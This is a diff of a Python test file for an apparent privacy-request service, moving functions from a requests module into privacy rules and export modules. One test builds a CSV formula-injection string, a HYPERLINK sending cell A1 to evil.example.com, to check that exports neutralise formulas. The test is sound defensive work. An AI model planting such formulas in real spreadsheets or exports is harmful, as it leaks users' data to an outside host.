@@ -14,10 +14,11 @@ from hypothesis import strategies as st
 
 from consentstream.audit import GENESIS, entry_hash, hash_of, verify
 from schemas.rows import AuditRow, PrivacyRequestRow
-from services.api import answers, buckets, requests, usage
+from services.api import answers, buckets, usage
 from services.api.config import ApiSettings
 from services.api.datamap import access_report, load_data_map
 from services.api.errors import InvalidInput
+from services.api.privacy import export, rules
 
 NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
 
@@ -40,8 +41,8 @@ def request(created: datetime, kind: str = "access", status: str = "done") -> Pr
 
 def test_two_requests_a_year_then_the_date_of_the_next() -> None:
     first, second = NOW - timedelta(days=300), NOW - timedelta(days=10)
-    assert requests.next_allowed([request(first)], 2, NOW) is None
-    allowed = requests.next_allowed([request(first), request(second, "portability")], 2, NOW)
+    assert rules.next_allowed([request(first)], 2, NOW) is None
+    allowed = rules.next_allowed([request(first), request(second, "portability")], 2, NOW)
     assert allowed == first.replace(year=first.year + 1)
 
 
@@ -52,19 +53,19 @@ def test_deletions_rejections_and_old_requests_do_not_count() -> None:
         request(NOW - timedelta(days=366)),
         request(NOW - timedelta(days=7)),
     ]
-    assert requests.next_allowed(earlier, 2, NOW) is None
+    assert rules.next_allowed(earlier, 2, NOW) is None
 
 
 def test_a_year_after_a_leap_day() -> None:
     leap = datetime(2028, 2, 29, 9, 0, tzinfo=UTC)
-    assert requests.one_year_after(leap) == datetime(2029, 3, 1, 9, 0, tzinfo=UTC)
+    assert rules.one_year_after(leap) == datetime(2029, 3, 1, 9, 0, tzinfo=UTC)
 
 
 def test_due_soon_only_for_open_requests_near_the_deadline() -> None:
     near = request(NOW - timedelta(days=25), status="verified")
-    assert requests.is_due_soon(near, 7, NOW)
-    assert not requests.is_due_soon(request(NOW, status="verified"), 7, NOW)
-    assert not requests.is_due_soon(request(NOW - timedelta(days=25)), 7, NOW)  # done
+    assert rules.is_due_soon(near, 7, NOW)
+    assert not rules.is_due_soon(request(NOW, status="verified"), 7, NOW)
+    assert not rules.is_due_soon(request(NOW - timedelta(days=25)), 7, NOW)  # done
 
 
 def test_fold_withholds_a_small_other_and_keeps_big_groups() -> None:
@@ -163,7 +164,7 @@ def test_a_malformed_data_map_is_refused(tmp_path: Path) -> None:
 
 def test_portability_csv_round_trips_odd_text() -> None:
     data = {"usage_events": [{"page_title": 'a,"b"\nc', "purposes": ["necessary"], "n": 3}]}
-    rows = list(csv.DictReader(io.StringIO(requests.export_csv(data))))
+    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
     values = {r["field"]: r["value"] for r in rows}
     assert values == {"page_title": 'a,"b"\nc', "purposes": '["necessary"]', "n": "3"}
 
@@ -172,11 +173,11 @@ def test_portability_csv_round_trips_odd_text() -> None:
 def test_portability_csv_never_writes_a_live_formula(start: str) -> None:
     title = f'{start}HYPERLINK("https://evil.example.com/?d="&A1,"open")'
     data = {"usage_events": [{"page_title": title, "props": {"k": f"{start}1+1"}, "n": -3}]}
-    rows = list(csv.DictReader(io.StringIO(requests.export_csv(data))))
+    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
     values = {r["field"]: r["value"] for r in rows}
     # the visitor's text is kept whole, behind a quote a spreadsheet shows as text
     assert values["page_title"] == "'" + title
-    assert not values["props"].startswith(requests.FORMULA_STARTS)
+    assert not values["props"].startswith(export.FORMULA_STARTS)
     assert values["n"] == "-3"  # a number stays a number
 
 
